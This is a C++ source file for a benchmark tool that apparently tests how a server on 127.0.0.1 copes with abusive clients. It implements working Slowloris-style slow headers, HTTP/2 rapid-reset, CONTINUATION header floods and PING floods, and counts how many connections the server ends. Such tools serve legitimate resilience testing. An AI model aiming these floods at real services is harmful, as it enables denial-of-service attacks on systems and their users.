// bench-abuse KIND PORT COUNT SECONDS: a client that means no good, against 127.0.0.1:PORT.
//
//   none     a loop that sends nothing: what the machine alone does to others
//   idle     COUNT connections that say nothing
//   slow     COUNT connections that send a byte of a head every half second, again when closed
//   resets   COUNT HTTP/2 connections of HEADERS and RST_STREAM, as fast as they go
//   headers  COUNT HTTP/2 connections of heads beyond any limit, in CONTINUATION frames
//   pings    COUNT HTTP/2 connections of PING frames that are never read back
//
// Says "under way" when all connections were made once; SECONDS count from there. Then how many it
// made and how many were ended by the other side. It waits by epoll: a poll() of 10,000 sockets
// keeps whoever shares its core from running for milliseconds, whatever their priority.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <string_view>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

std::string frame(char type, char flags, std::uint32_t stream, std::string_view payload) {
  std::string out;
  for (int shift : {16, 8, 0}) out += static_cast<char>(payload.size() >> shift);
  out += type;
  out += flags;
  for (int shift : {24, 16, 8, 0}) out += static_cast<char>(stream >> shift);
  return out.append(payload);
}

constexpr std::string_view kPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
// :method GET, :scheme http, :path / from the static table; :authority a.
constexpr std::string_view kHead =
    "\x82\x86\x84\x41\x01"
    "a";

struct Peer {
  int fd = -1;
  std::uint32_t stream = 1;
  std::string rest;  // not taken by the socket yet
  Clock::time_point next{};
};

class Attack {
 public:
  Attack(std::string kind, std::uint16_t port, std::size_t count)
      : kind_(std::move(kind)),
        port_(port),
        peers_(count),
        floods_(kind_ != "none" && kind_ != "idle" && kind_ != "slow"),
        epoll_(::epoll_create1(EPOLL_CLOEXEC)) {}

  void run(std::chrono::seconds length) {
    for (Peer& peer : peers_) open(peer);
    std::puts("under way");
    std::fflush(stdout);
    const auto end = Clock::now() + length;
    while (Clock::now() < end) {
      if (kind_ != "none") turn();
    }
    std::printf("%s: %zu connections made, %zu ended by the server\n", kind_.c_str(), made_,
                ended_);
  }

 private:
  void open(Peer& peer) {
    peer = {};
    peer.fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(port_);
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (peer.fd < 0 || ::connect(peer.fd, reinterpret_cast<sockaddr*>(&to), sizeof to) != 0) {
      return close(peer);
    }
    ::fcntl(peer.fd, F_SETFL, O_NONBLOCK);
    epoll_event what{};
    what.events = EPOLLIN | (floods_ ? EPOLLOUT : 0u);
    what.data.ptr = &peer;
    ::epoll_ctl(epoll_, EPOLL_CTL_ADD, peer.fd, &what);
    ++made_;
    if (kind_ == "slow") peer.rest = "GET / HTTP/1.1\r\nx: ";
    if (floods_) peer.rest = std::string(kPreface) + frame(4, 0, 0, "");
  }
  void close(Peer& peer) {
    if (peer.fd >= 0) ::close(peer.fd);
    peer.fd = -1;
  }

  void turn() {
    for (Peer& peer : peers_) {
      if (peer.fd < 0) open(peer);
    }
    std::array<epoll_event, 256> events;
    const int count =
        ::epoll_wait(epoll_, events.data(), static_cast<int>(events.size()), floods_ ? 200 : 50);
    for (int i = 0; i < count; ++i) {
      const epoll_event& event = events[static_cast<std::size_t>(i)];
      serve(*static_cast<Peer*>(event.data.ptr), event.events);
    }
    if (kind_ != "slow") return;
    for (Peer& peer : peers_) serve(peer, 0);
  }

  void serve(Peer& peer, std::uint32_t events) {
    if (peer.fd < 0) return;
    if ((events & (EPOLLIN | EPOLLHUP | EPOLLERR)) != 0 && kind_ != "pings") {
      std::array<char, 65536> buffer;
      const auto got = ::recv(peer.fd, buffer.data(), buffer.size(), 0);
      if (got == 0 || (got < 0 && errno != EAGAIN)) {
        ++ended_;
        return close(peer);
      }
    }
    if (peer.rest.empty()) fill(peer);
    if (peer.rest.empty()) return;
    const auto sent = ::send(peer.fd, peer.rest.data(), peer.rest.size(), MSG_NOSIGNAL);
    if (sent > 0) peer.rest.erase(0, static_cast<std::size_t>(sent));
    if (sent < 0 && errno != EAGAIN) {
      ++ended_;
      close(peer);
    }
  }

  void fill(Peer& peer) {
    if (kind_ == "slow") {
      if (Clock::now() < peer.next) return;
      peer.next = Clock::now() + std::chrono::milliseconds(500);
      peer.rest = "y";
    } else if (kind_ == "resets") {
      for (int i = 0; i < 50; ++i, peer.stream += 2) {
        peer.rest += frame(1, 5, peer.stream, kHead);
        peer.rest += frame(3, 0, peer.stream, std::string_view("\0\0\0\x08", 4));
      }
    } else if (kind_ == "headers") {
      const std::string value(8000, 'v');
      peer.rest = frame(1, 1, peer.stream, kHead);
      std::string field = std::string("\0\x01x\x7f", 4);  // 8000 as 127 + 7873
      field += "\xc1\x3d";
      for (int i = 0; i < 16; ++i)
        peer.rest += frame(9, i == 15 ? 4 : 0, peer.stream, field + value);
      peer.stream += 2;
    } else if (kind_ == "pings") {
      for (int i = 0; i < 200; ++i) peer.rest += frame(6, 0, 0, "12345678");
    }
  }

  std::string kind_;
  std::uint16_t port_;
  std::vector<Peer> peers_;
  bool floods_;  // sends as much as is taken
  int epoll_;
  std::size_t made_ = 0;
  std::size_t ended_ = 0;
};

}  // namespace

int main(int argc, char** argv) {
  if (argc != 5) {
    std::fprintf(stderr,
                 "usage: bench-abuse none|idle|slow|resets|headers|pings PORT COUNT SECONDS\n");
    return 64;
  }
  Attack attack(argv[1], static_cast<std::uint16_t>(std::atoi(argv[2])),
                static_cast<std::size_t>(std::atoi(argv[3])));
  attack.run(std::chrono::seconds(std::atoi(argv[4])));
  return 0;
}
